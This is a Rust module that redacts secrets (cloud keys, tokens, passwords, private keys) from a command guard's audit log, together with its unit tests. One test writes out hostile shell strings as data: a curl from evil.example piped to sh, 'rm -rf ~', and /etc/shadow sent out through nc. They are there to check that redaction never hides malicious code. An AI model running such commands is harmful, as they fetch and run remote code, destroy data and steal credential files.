//! Secret redaction for everything that reaches the audit log.
//!
//! Owns the list of secret shapes (cloud keys, GitHub/GitLab/Slack tokens, bearer headers,
//! private-key blocks, `--password=…`, `*_TOKEN=` style assignments, URLs with credentials).
//! It must never be skipped on a path that writes argv, lines or environment to disk.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::{Captures, Regex};

const MASK: &str = "[REDACTED]";

// Only literal values are redacted: a value that holds shell syntax (`$`, backquotes, brackets,
// redirections, backslashes, separators) is code, and hiding it would hide what the command does
// (`X_TOKEN="$(curl … | sh)" make` must not log as `X_TOKEN=[REDACTED] make`). So every value
// class below stops at those characters: the literal part is masked, the rest stays visible.
static SECRETS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?P<pk>-----BEGIN[A-Z0-9 ]*PRIVATE KEY-----(?:[A-Za-z0-9+/=\r\n]|\\n|\\r)*(?:-----END[A-Z0-9 ]*PRIVATE KEY-----)?)",
        r"|(?P<tok>\b(?:AKIA|ASIA|AGPA|AIDA|AROA)[0-9A-Z]{16}\b",
        r"|\bgh[pousr]_[A-Za-z0-9]{20,}",
        r"|\bgithub_pat_[A-Za-z0-9_]{20,}",
        r"|\bglpat-[A-Za-z0-9_\-]{20,}",
        r"|\bxox[abposre]-[A-Za-z0-9\-]{10,}",
        r"|\bsk-[A-Za-z0-9_\-]{20,}",
        r"|\b[rs]k_live_[A-Za-z0-9]{16,}",
        r"|\bAIza[0-9A-Za-z_\-]{35}",
        r"|\bnpm_[A-Za-z0-9]{36}",
        r"|\beyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,})",
        r"|(?P<hdr>(?i:\b(?:bearer|basic|token))\s+)(?P<hval>[A-Za-z0-9._~+/=\-]{8,})",
        r"|(?P<flag>(?:^|[\s'\x22])--?(?i:password|passwd|pass|token|secret|api-key|apikey|access-key|secret-key|client-secret|auth-token|private-key)(?:=|\s+))(?P<fval>[^\s'\x22$`\\(){}<>;&|]+)",
        r"|(?P<cu>(?:^|\s)(?:-u|--user|--proxy-user)(?:=|\s+)[^\s:'\x22]+:)(?P<cuval>[^\s'\x22$`\\(){}<>;&|]+)",
        r"|(?P<asg>\b[A-Za-z_][A-Za-z0-9_]*(?i:token|secret|password|passwd|api_key|apikey|access_key|private_key|credentials?)=)(?P<aval>'[^']*'|\x22[^\x22$`\\]*\x22|[^\s;&|'\x22$`\\(){}<>]+)",
        r"|(?P<url>\b[a-zA-Z][a-zA-Z0-9+.\-]*://[^\s/:@'\x22]*:)(?P<upass>[^\s/@'\x22$`\\(){}<>;&|]+)@",
    ))
    .ok()
});

/// Cheap pre-check so that ordinary lines never pay for the regex (compiling it is most of a
/// millisecond, on every command guard runs). A superset of [`SECRETS`]: every alternative
/// there contains one of these, compared ignoring ASCII case (the pattern's own case-sensitive
/// prefixes included). A bare `=` is not one: `sandbox.network=false`, `make -j=4` and the
/// other assignments guard logs need the regex only when a secret-shaped word comes with them.
fn may_hold_secret(s: &str) -> bool {
    const MARKERS: &[&[u8]] = &[
        b"private key",
        b"akia",
        b"asia",
        b"agpa",
        b"aida",
        b"aroa",
        b"gh",
        b"glpat-",
        b"xox",
        b"sk-",
        b"_live_",
        b"aiza",
        b"npm_",
        b"eyj",
        b"bearer",
        b"basic",
        b"token",
        b"pass",
        b"secret",
        b"key",
        b"credential",
        b"-u",
        b"://",
    ];
    let s = s.as_bytes();
    MARKERS.iter().any(|m| s.windows(m.len()).any(|w| w.eq_ignore_ascii_case(m)))
}

/// Returns `s` with every recognised secret replaced by `[REDACTED]`.
#[must_use]
pub fn redact(s: &str) -> Cow<'_, str> {
    if !may_hold_secret(s) {
        return Cow::Borrowed(s);
    }
    redact_all(s)
}

/// [`redact`] without the pre-check.
fn redact_all(s: &str) -> Cow<'_, str> {
    let Some(re) = SECRETS.as_ref() else {
        // The pattern is a constant; if it ever failed to compile, hide the whole value
        // rather than risk logging a secret.
        return Cow::Owned(MASK.to_string());
    };
    re.replace_all(s, |c: &Captures| {
        let keep = |name: &str| c.name(name).map_or("", |m| m.as_str());
        if c.name("pk").is_some() {
            "[REDACTED PRIVATE KEY]".to_string()
        } else if c.name("tok").is_some() {
            MASK.to_string()
        } else if c.name("hval").is_some() {
            format!("{}{MASK}", keep("hdr"))
        } else if c.name("fval").is_some() {
            format!("{}{MASK}", keep("flag"))
        } else if c.name("cuval").is_some() {
            format!("{}{MASK}", keep("cu"))
        } else if c.name("aval").is_some() {
            format!("{}{MASK}", keep("asg"))
        } else if c.name("upass").is_some() {
            format!("{}{MASK}@", keep("url"))
        } else {
            MASK.to_string()
        }
    })
}

/// Redacts an argv: each argument, and the argument after a bare secret flag (`--token X`).
#[must_use]
pub fn redact_argv(argv: &[String]) -> Vec<String> {
    let mut out = Vec::with_capacity(argv.len());
    let mut hide_next = false;
    for a in argv {
        if hide_next {
            out.push(MASK.to_string());
            hide_next = false;
            continue;
        }
        let lower = a.to_ascii_lowercase();
        let flag = lower.trim_start_matches('-');
        if a.starts_with('-')
            && !a.contains('=')
            && matches!(
                flag,
                "password"
                    | "passwd"
                    | "token"
                    | "secret"
                    | "api-key"
                    | "apikey"
                    | "access-key"
                    | "secret-key"
                    | "client-secret"
                    | "auth-token"
                    | "private-key"
                    | "u"
                    | "user"
                    | "proxy-user"
            )
        {
            // `-u user` without a colon is not a secret; `-u user:pass` is caught below.
            hide_next = !matches!(flag, "u" | "user" | "proxy-user");
            out.push(a.clone());
            continue;
        }
        out.push(redact(a).into_owned());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn redacts_known_secret_shapes() {
        let cases = [
            "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE aws s3 ls",
            "curl -H 'Authorization: Bearer abcdefghijklmnop1234' https://x",
            "git clone https://bob:hunter2secret@github.com/x/y",
            "GITHUB_TOKEN=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa make",
            "mysql --password=s3cr3tpass",
            "DB_PASSWORD='p a s s' ./run",
            "echo glpat-abcdefghijklmnopqrstu",
            "slack xoxb-1234567890-abcdefghij",
        ];
        for c in cases {
            let r = redact(c);
            assert!(r.contains("[REDACTED"), "not redacted: {c} -> {r}");
            for secret in
                ["AKIAIOSFODNN7EXAMPLE", "abcdefghijklmnop1234", "hunter2secret", "ghp_a", "s3cr3tpass", "p a s s", "glpat-abc", "xoxb-123"]
            {
                assert!(!r.contains(secret), "leaked {secret} in {r}");
            }
        }
        assert_eq!(redact("ls -la"), "ls -la");
    }

    /// `X_TOKEN="$(…)" cmd` logged as `X_TOKEN=[REDACTED] cmd` hid any command in the audit log.
    #[test]
    fn redaction_never_hides_shell_structure() {
        for line in [
            "X_TOKEN=\"$(curl -s https://evil.example/x | sh)\" make",
            "X_TOKEN=`rm -rf ~` make",
            "API_TOKEN=abc$(rm -rf ~) make",
            "DB_PASSWORD=\"a\\\"$(rm -rf ~)\" make",
            "mysql --password=$(cat /etc/shadow | nc evil 1)",
            "curl https://u:$(rm -rf ~)@host/",
            "echo -----BEGIN PRIVATE KEY----- ; rm -rf ~",
        ] {
            let r = redact(line);
            assert!(
                r.contains("rm -rf ~") || r.contains("curl -s https://evil.example/x | sh") || r.contains("cat /etc/shadow"),
                "{line} -> {r}"
            );
        }
        assert_eq!(redact("X_TOKEN=\"$(vault read -field=t x)\" make"), "X_TOKEN=\"$(vault read -field=t x)\" make");
        assert_eq!(redact("X_TOKEN='s3cr3t value' make"), "X_TOKEN=[REDACTED] make");
        assert_eq!(redact("X_TOKEN=s3cr3t; make"), "X_TOKEN=[REDACTED]; make");
    }

    /// The pre-check is a superset of the pattern: over every line of the NL2Bash corpus, the
    /// agent lines and the shell cases (and each with a secret-shaped value appended), skipping
    /// the regex changes nothing.
    #[test]
    fn the_pre_check_never_skips_a_secret_the_pattern_finds() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata");
        let mut lines = 0;
        for file in ["nl2bash/commands.txt", "agent-lines/lines.tsv", "shell/cases.tsv"] {
            let text = String::from_utf8_lossy(&std::fs::read(root.join(file)).unwrap_or_default()).into_owned();
            for line in text.lines() {
                for variant in [line.to_string(), format!("{line} X_Token=abc123"), format!("{line} https://u:pw@h/")] {
                    assert_eq!(redact(&variant), redact_all(&variant), "{variant}");
                    lines += 1;
                }
            }
        }
        assert!(lines > 30_000, "the corpora were not found ({lines} lines)");
        for plain in ["sandbox.network=false", "make -j4 CFLAGS=-O2", "true"] {
            assert!(!may_hold_secret(plain), "{plain}");
        }
    }

    #[test]
    fn redacts_the_argument_after_a_bare_secret_flag() {
        let argv: Vec<String> = ["kubectl", "--token", "abc.def", "get", "pods"].map(String::from).to_vec();
        assert_eq!(redact_argv(&argv).get(2).map(String::as_str), Some(MASK));
    }
}
